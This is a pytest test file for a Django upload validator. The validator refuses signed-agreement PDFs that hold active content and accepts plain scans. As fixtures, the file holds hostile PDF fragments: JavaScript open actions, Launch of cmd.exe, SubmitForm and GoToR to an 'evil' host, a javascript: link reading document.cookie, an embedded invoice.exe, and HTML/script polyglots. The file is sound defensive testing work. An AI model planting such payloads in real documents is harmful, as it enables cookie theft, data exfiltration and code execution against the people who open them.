"""The signed PKS document is parsed as a PDF and refused when it can act: JavaScript, actions that run or
open something, embedded files, XFA forms, or a file that is also a web page. A plain signed scan is kept
and served as an attachment the browser never sniffs."""

import io

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pypdf import PdfWriter

from agents.models import CooperationAgreement, User
from agents.services import validate_pdf
from tests.factories import CooperationAgreementFactory, UserFactory
from tests.pdf_builders import pdf_document

pytestmark = pytest.mark.django_db

JAVASCRIPT = "This PDF contains JavaScript, which is not allowed."
POLYGLOT = "This PDF also holds web-page (HTML) code, so it is refused."


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def staff_client(branch):
    client = Client()
    client.force_login(UserFactory(role=User.Role.STAFF, branch=branch))
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


@pytest.fixture
def agreement(office):
    return CooperationAgreementFactory(office=office)


def upload(client, agreement, content):
    document = SimpleUploadedFile("pks-signed.pdf", content, content_type="application/pdf")
    return client.post(reverse("agents:agreement_upload", args=[agreement.pk]), {"document": document})


def stored(agreement):
    return CooperationAgreement.objects.get(pk=agreement.pk).document


REFUSED = {
    "javascript-on-opening": (pdf_document(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), JAVASCRIPT),
    "document-level-script": (
        pdf_document(
            catalog=b"/Names << /JavaScript 4 0 R >>",
            extra=[b"<< /Names [(init) 5 0 R] >>", b"<< /S /JavaScript /JS (this.submitForm('http://x')) >>"],
        ),
        JAVASCRIPT,
    ),
    "script-in-a-page-action": (
        pdf_document(
            page=b"/AA << /O << /S /JavaScript /JS 4 0 R >> >>", extra=[b"<< /Length 5 >>\nstream\nx=1;\nendstream"]
        ),
        JAVASCRIPT,
    ),
    "script-behind-escaped-names": (
        pdf_document(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        JAVASCRIPT,
    ),
    "action-type-behind-a-reference": (
        pdf_document(catalog=b"/OpenAction 4 0 R", extra=[b"<< /Type /Action /S 5 0 R >>", b"/JavaScript"]),
        JAVASCRIPT,
    ),
    "script-nothing-points-at": (pdf_document(extra=[b"<< /S /JavaScript /JS (app.alert(1)) >>"]), JAVASCRIPT),
    "launch-on-opening": (
        pdf_document(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "an action that opens or runs something (Launch)",
    ),
    "launch-when-a-page-opens": (
        pdf_document(page=b"/AA << /O << /S /Launch /Win << /F (calc.exe) >> >> >>"),
        "an action that opens or runs something (Launch)",
    ),
    "open-a-file-on-a-share": (
        pdf_document(catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
        "an action that opens or runs something (GoToR)",
    ),
    "form-sent-elsewhere": (
        pdf_document(catalog=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil/) >> >>"),
        "an action that opens or runs something (SubmitForm)",
    ),
    "a-javascript-link": (
        pdf_document(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
                          b" /A << /S /URI /URI (javascript:alert(document.cookie)) >> >>]"),
        "an action that opens or runs something (URI)",
    ),
    "embedded-file": (
        pdf_document(
            catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >>",
            extra=[
                b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ],
        ),
        "This PDF has files embedded in it",
    ),
    "file-attachment-annotation": (
        pdf_document(page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]",
                     extra=[b"<< /Type /Filespec /F (a.txt) >>"]),
        "This PDF has attachments or media in it",
    ),
    "xfa-form": (
        pdf_document(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                     extra=[b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"]),
        "This PDF holds an XFA form",
    ),
    "html-in-the-header-comment": (
        pdf_document(header=b"%PDF-1.7\n%<html><body><script>alert(document.cookie)</script></body></html>\n"),
        POLYGLOT,
    ),
    "html-after-the-end": (pdf_document(tail=b"<html><script>alert(document.cookie)</script></html>\n"), POLYGLOT),
    "zip-after-the-end": (
        pdf_document(tail=b"PK\x03\x04\x14\x00\x00\x00payload"),
        "Something else is attached after the end of this PDF",
    ),
    "a-header-and-nothing-else": (b"%PDF-1.7\n<< /not a pdf >>\n%%EOF\n", "This file is not a PDF that can be read"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "message"), REFUSED.values(), ids=REFUSED.keys())
def test_a_pdf_that_can_act_is_refused_and_nothing_is_stored(staff_client, agreement, media, content, message):
    response = upload(staff_client, agreement, content)

    assert response.status_code == 400
    assert message in response.content.decode()
    assert not stored(agreement)
    assert not media.exists() or not any(media.rglob("*.*"))


def written_by_pypdf():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "PKS/CLP-01/2024/004", "/Producer": "Scanner"})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


ACCEPTED = {
    "a-plain-scan": pdf_document(),
    "a-link-to-a-website": pdf_document(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
        b" /A << /S /URI /URI (https://bpjsketenagakerjaan.go.id) >> >>]"
    ),
    "opening-on-the-first-page": pdf_document(catalog=b"/OpenAction [3 0 R /Fit]"),
    "a-signature-field": pdf_document(
        catalog=b"/AcroForm << /Fields [4 0 R] /SigFlags 3 >>",
        extra=[b"<< /FT /Sig /T (Kepala Cabang) /Rect [0 0 0 0] /P 3 0 R >>"],
    ),
    "a-comment-after-the-end": pdf_document(tail=b"% scanner 2.1\n"),
    "written-by-a-pdf-library": written_by_pypdf(),
}  # fmt: skip


@pytest.mark.parametrize("content", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_a_pdf_that_only_shows_its_pages_is_kept(staff_client, agreement, media, content):
    response = upload(staff_client, agreement, content)

    assert response.status_code == 302
    assert (media / stored(agreement).name).read_bytes() == content


def test_the_kept_pdf_is_served_as_an_attachment_that_is_never_sniffed(staff_client, agreement, media):
    upload(staff_client, agreement, pdf_document())

    response = staff_client.get(reverse("agents:agreement_document", args=[agreement.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


def test_the_service_refuses_it_whatever_the_form(english):
    """The check is in the service, so the create and renew forms and any other caller get it too."""
    document = SimpleUploadedFile("pks.pdf", REFUSED["javascript-on-opening"][0])

    with pytest.raises(ValidationError) as refusal:
        validate_pdf(document)

    assert refusal.value.code == "pdf_active_content"
    assert JAVASCRIPT in refusal.value.messages[0]
